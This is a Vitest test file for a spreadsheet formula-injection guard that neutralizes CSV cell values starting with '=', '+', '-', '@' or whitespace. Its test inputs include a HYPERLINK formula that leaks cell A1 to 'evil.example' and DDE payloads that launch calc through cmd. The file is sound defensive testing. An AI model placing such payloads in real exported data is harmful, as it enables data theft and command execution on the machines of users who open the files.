import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  isFormulaLike,
  needsFormulaGuard,
  neutralizeFormula,
  restoreFormulaGuard,
} from '../../../shared/exchange/formula-guard';

describe('formula-injection guard (OWASP CSV injection)', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    ' \t@SUM(A1:A9)',
    '=cmd|"/c calc"!A1',
  ])('neutralizes %j with a leading quote', (payload) => {
    expect(isFormulaLike(payload)).toBe(true);
    expect(neutralizeFormula(payload)).toBe(`'${payload}`);
  });

  it.each(['Acme', 'ann@acme.example', 'CTO - Sales', '100', '2+2', 'a=b', "O'Brien", ''])(
    'leaves %j alone',
    (text) => {
      expect(needsFormulaGuard(text)).toBe(false);
      expect(neutralizeFormula(text)).toBe(text);
    },
  );

  it('keeps a value that already starts with a quote reversible', () => {
    expect(neutralizeFormula("'=1")).toBe("''=1");
    expect(restoreFormulaGuard("''=1")).toBe("'=1");
    expect(restoreFormulaGuard("'=1")).toBe('=1');
    expect(restoreFormulaGuard("'Brien")).toBe("'Brien");
  });

  it('restore undoes neutralize for every string', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' ', "'", 'a', '1', '(') }),
        (s) => {
          expect(restoreFormulaGuard(neutralizeFormula(s))).toBe(s);
          expect(isFormulaLike(neutralizeFormula(s))).toBe(false);
        },
      ),
    );
  });
});
